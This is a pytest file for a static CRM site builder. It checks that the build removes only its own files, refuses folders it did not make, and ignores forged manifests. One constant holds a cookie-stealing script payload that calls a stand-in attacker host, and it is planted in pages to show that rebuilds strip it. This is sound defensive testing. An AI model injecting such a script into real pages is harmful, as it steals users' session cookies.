"""`build -o DIR`: removes only the files it wrote, refuses a folder it did not make unless
--force, and takes no page on trust from a folder (a forged .textcrm-site included)."""

from __future__ import annotations

import shutil
from pathlib import Path

from conftest import TODAY

OPPORTUNITIES = {
    f"opportunities/{key}.md": (
        f"---\ntitle: {title}\naccount: acme-corp\nowner: alice\nstage: prospecting\n"
        "close_date: 2026-12-10\namount: 10000\n"
        "activities: [{date: 2026-11-24, type: call, summary: Call}]\n---\nNotes.\n"
    )
    for key, title in (("a", "Alpha scanners"), ("b", "Bravo scanners"))
}
PLANTED = b"<script>fetch('https://evil.example/?'+document.cookie)</script>"


def build(run, root: Path, out: Path, *extra: str, cache: Path | None = None):
    env = {"XDG_CACHE_HOME": str(cache)} if cache is not None else None
    args = ["build", "--root", str(root), "--today", TODAY, "--no-cache", "-o", str(out)]
    return run([*args, *extra], env=env)


def tree(folder: Path) -> dict[str, bytes]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def users_files(out: Path) -> dict[str, bytes]:
    """A Pages checkout's own files, as a user keeps them in the output folder."""
    files = {
        "CNAME": b"crm.example.com\n",
        ".git/HEAD": b"ref: refs/heads/gh-pages\n",
        ".git/objects/ab/cdef": b"\x78\x01blob",
        "opportunities/notes.txt": b"kept by hand\n",
    }
    for rel, data in files.items():
        (out / rel).parent.mkdir(parents=True, exist_ok=True)
        (out / rel).write_bytes(data)
    return files


def test_removes_only_what_it_wrote_never_a_users_files(run, make_repo, tmp_path):
    root = make_repo(OPPORTUNITIES)
    out = tmp_path / "public"
    assert build(run, root, out).exit_code == 0
    mine = users_files(out)
    # A forged marker that lists the user's files is not believed.
    (out / ".textcrm-site").write_text(
        '{"pages": {"CNAME": "x", ".git/HEAD": "x"}, "files": {"CNAME": [16, 0]}}\n'
    )
    (root / "opportunities/b.md").unlink()
    result = build(run, root, out)
    assert result.exit_code == 0, result.output
    assert "files written, 1 removed)" in result.output
    assert not (out / "opportunities/b.html").exists()
    assert (out / "opportunities/a.html").is_file()
    after = tree(out)
    assert {rel: after.get(rel) for rel in mine} == mine


def test_a_page_changed_since_it_was_written_is_not_removed(run, make_repo, tmp_path):
    root = make_repo(OPPORTUNITIES)
    out = tmp_path / "public"
    assert build(run, root, out).exit_code == 0
    (out / "opportunities/b.html").write_text("my own notes on Bravo\n")
    (root / "opportunities/b.md").unlink()
    result = build(run, root, out)
    assert result.exit_code == 0, result.output
    assert (out / "opportunities/b.html").read_text() == "my own notes on Bravo\n"


def test_refuses_a_non_empty_folder_it_did_not_make_unless_forced(run, make_repo, tmp_path):
    root = make_repo(OPPORTUNITIES)
    out = tmp_path / "pages-checkout"
    out.mkdir()
    mine = users_files(out)
    (out / "index.html").write_text("my landing page\n")
    before = tree(out)
    result = build(run, root, out)
    assert result.exit_code == 2
    assert (
        f"output folder {out} is not empty and was not made by `textcrm build` for you (no "
        "record of an earlier build of yours into it; it holds .git/, CNAME, index.html, "
        "opportunities/);" in result.output
    )
    assert "pass --force" in result.output
    assert tree(out) == before

    result = build(run, root, out, "--force")
    assert result.exit_code == 0, result.output
    after = tree(out)
    assert {rel: after[rel] for rel in mine} == mine
    assert b"Pipeline dashboard" in after["index.html"]
    assert "opportunities/a.html" in after
    # From then on the folder is a build of this user's: no --force needed.
    assert build(run, root, out).exit_code == 0


def test_a_page_planted_beside_a_forged_manifest_does_not_survive(run, make_repo, tmp_path):
    root = make_repo(OPPORTUNITIES)
    # Someone else builds the site (another machine, another key), plants a script in a page,
    # and commits the folder with its genuine-looking .textcrm-site next to it.
    theirs = tmp_path / "theirs"
    assert build(run, root, theirs, cache=tmp_path / "their-cache").exit_code == 0
    page = theirs / "opportunities/a.html"
    page.write_bytes(page.read_bytes().replace(b"</body>", PLANTED + b"</body>"))
    out = tmp_path / "public"
    shutil.copytree(theirs, out)
    result = build(run, root, out)
    assert result.exit_code == 2
    assert "is not empty and was not made by `textcrm build` for you" in result.output
    assert PLANTED in (out / "opportunities/a.html").read_bytes()  # refused: nothing written

    result = build(run, root, out, "--force")
    assert result.exit_code == 0, result.output
    clean = tmp_path / "clean"
    assert build(run, root, clean).exit_code == 0
    assert PLANTED not in (out / "opportunities/a.html").read_bytes()
    assert tree(out) == tree(clean)


def test_a_page_changed_in_the_users_own_folder_is_rendered_again(run, make_repo, tmp_path):
    root = make_repo(OPPORTUNITIES)
    out = tmp_path / "public"
    assert build(run, root, out).exit_code == 0
    clean = tree(out)
    # A checkout or pull rewrites a page and the marker; the inputs did not change.
    page = out / "opportunities/a.html"
    page.write_bytes(page.read_bytes().replace(b"</body>", PLANTED + b"</body>"))
    (out / ".textcrm-site").write_bytes(clean[".textcrm-site"])
    result = build(run, root, out)
    assert result.exit_code == 0, result.output
    assert "(1 rendered, 1 file written, 0 removed)" in result.output
    assert tree(out) == clean


def test_a_forged_marker_is_replaced_and_never_believed(run, make_repo, tmp_path):
    root = make_repo(OPPORTUNITIES)
    out = tmp_path / "public"
    assert build(run, root, out).exit_code == 0
    clean = tree(out)
    (out / "CNAME").write_text("crm.example.com\n")
    (out / ".textcrm-site").write_text('{"pages": {"CNAME": "x"}, "files": {"CNAME": [16, 0]}}\n')
    result = build(run, root, out)
    assert result.exit_code == 0, result.output
    assert "(0 rendered, 0 files written, 0 removed)" in result.output
    assert tree(out) == {**clean, "CNAME": b"crm.example.com\n"}
